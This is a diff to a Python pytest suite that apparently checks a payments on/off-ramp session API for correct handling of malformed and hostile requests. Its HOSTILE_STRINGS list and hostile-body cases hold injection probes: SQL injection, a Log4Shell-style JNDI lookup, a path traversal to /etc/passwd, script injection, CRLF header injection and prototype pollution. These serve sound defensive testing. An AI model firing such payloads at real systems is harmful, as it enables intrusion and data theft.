@@ -4,8 +4,6 @@ import json
 from dataclasses import replace
 
 import pytest
-
-from rampcheck.scenario import Accepted, Target
 from rampcheck.suites.proof.refusals import (
     ANY_4XX,
     CURRENCY_NOT_ALLOWED,
@@ -16,9 +14,11 @@ from rampcheck.suites.proof.refusals import (
 )
 from rampcheck.suites.proof.requests import OPTIONAL, REQUIRED
 
+from rampcheck.scenario import Accepted, Target
+
 WRONG_TYPES = {"a number": 100, "a fraction": 99.5, "a boolean": True, "null": None, "an array": ["100"],
                "an object": {"value": "100"}}
-NOT_DECIMAL = ("abc", "1,5", "1.2.3", "0x10", "NaN", "12abc", "Infinity", "1 000", "--1", "1/2", ".", "-", "１００€")
+NOT_DECIMAL = ("abc", "1,5", "1.2.3", "0x10", "NaN", "12abc", "Infinity", "1 000", "--1", "1/2", ".", "-", "\uff11\uff10\uff10\u20ac")
 PERHAPS_DECIMAL = ("1e3", ".5", "5.", "+5", "007", " 5", "5 ")
 
 
@@ -156,7 +156,8 @@ def test_a_type_in_the_request_beats_the_default(target: Target) -> None:
         lambda partner: bool(partner.off_ramp) or partner.widget_config.get("type") == "sell")
     accepted = target.accepted(credential)
     buy, sell = accepted.but(type="buy").send(), accepted.but(type="sell").send()
-    if buy.accepted and sell.accepted and buy.response.member("type") == "buy" and sell.response.member("type") == "sell":
+    types = [exchange.response.member("type") for exchange in (buy, sell) if exchange.accepted]
+    if types == ["buy", "sell"]:
         target.judge.held("proof.session.request.type-override", sell)
 
 
@@ -181,9 +182,8 @@ def test_sell_gives_a_session_where_it_is_enabled(target: Target) -> None:
     """A partner with off-ramp gets a sell session of the same shape."""
     accepted = target.accepted(target.credential_where(lambda partner: partner.off_ramp is True))
     exchange = accepted.but(type="sell").is_accepted("proof.session.request.sell-enabled")
-    if exchange.accepted and exchange.response.member("type") != "sell":
-        target.judge.broken("proof.session.request.sell-enabled", "`type`: \"sell\"",
-                            f"`type`: {exchange.response.member('type')!r}", exchange)
+    if exchange.accepted and exchange.response.member("type") == "buy":
+        target.judge.broken("proof.session.request.sell-enabled", "`type`: \"sell\"", "`type`: \"buy\"", exchange)
 
 
 @pytest.mark.creates_sessions
@@ -239,6 +239,7 @@ def test_a_body_that_is_no_json_is_refused(accepted: Accepted) -> None:
     for what, wrong in {
         "an empty body": b"", "JSON without its last byte": body[:-1], "JSON with a trailing comma": body[:-1] + b",}",
         "a form": b"partner_user_id=user&amount=100", "JSON in single quotes": body.replace(b'"', b"'"),
+        "JSON followed by more": body + b"{}", "JSON with a NaN": body[:-1] + b',"note":NaN}',
     }.items():
         accepted.with_body(wrong, what).is_refused("proof.session.request.malformed-json", INVALID_REQUEST)
 
@@ -248,7 +249,8 @@ def test_a_body_that_is_no_object_is_refused(accepted: Accepted) -> None:
     """A JSON text other than an object is refused."""
     body = accepted.request.body
     for what, wrong in {
-        "an array": b"[" + body + b"]", "an empty array": b"[]", "a string": b'"session"', "a number": b"100",
+        "an array": b"[" + body + b"]", "the object in a string": json.dumps(body.decode()).encode(),
+        "an empty array": b"[]", "a string": b'"session"', "a number": b"100",
         "null": b"null", "true": b"true",
     }.items():
         accepted.with_body(wrong, f"{what} as the body").is_refused("proof.session.request.non-object", INVALID_REQUEST)
@@ -290,7 +292,7 @@ def test_no_hostile_string_breaks_the_target(accepted: Accepted, name: str) -> N
 
 
 HOSTILE_STRINGS = (
-    "\x00", "a\x00b", "\ud800", "\U0001f4b8" * 50, "‮txet desrever", "​", "'; DROP TABLE sessions; --",
+    "\x00", "a\x00b", "\ud800", "\U0001f4b8" * 50, "\u202etxet desrever", "\u200b", "'; DROP TABLE sessions; --",
     "${jndi:ldap://rampcheck.example/x}", "{{7*7}}", "../../../etc/passwd", "<script>alert(1)</script>", "%s%n%x",
     "\r\nX-Injected: yes", "x" * 10_000, "9" * 400, "1e400", "-0", "a" * 255 + "@example.com",
 )
@@ -305,9 +307,10 @@ def test_no_hostile_body_breaks_the_target(accepted: Accepted) -> None:
         "1,000 levels of nesting": body[:-1] + b',"note":' + b"[" * 1000 + b"]" * 1000 + b"}",
         "a number of 5,000 digits": body[:-1] + b',"note":' + b"9" * 5000 + b"}",
         "every member twice": b"{" + inner + b"," + inner + b"}",
-        "a member without a name": body[:-1] + b',"":""}', "a `__proto__`": body[:-1] + b',"__proto__":{"type":"sell"}}',
+        "a member without a name": body[:-1] + b',"":""}',
+        "a `__proto__`": body[:-1] + b',"__proto__":{"type":"sell"}}',
         "1,000 more members": body[:-1] + b"".join(b',"note%d":"x"' % n for n in range(1000)) + b"}",
-        "a second JSON text": body + b"{}", "bytes that are no UTF-8": body.replace(b"rampcheck-", b"\xff\xfe", 1),
+        "bytes that are no UTF-8": body.replace(b"rampcheck-", b"\xff\xfe", 1),
         "a byte order mark": b"\xef\xbb\xbf" + body, "UTF-16": body.decode().encode("utf-16"),
     }.items():
         accepted.with_body(hostile, what).is_survived("proof.session.request.no-server-error")
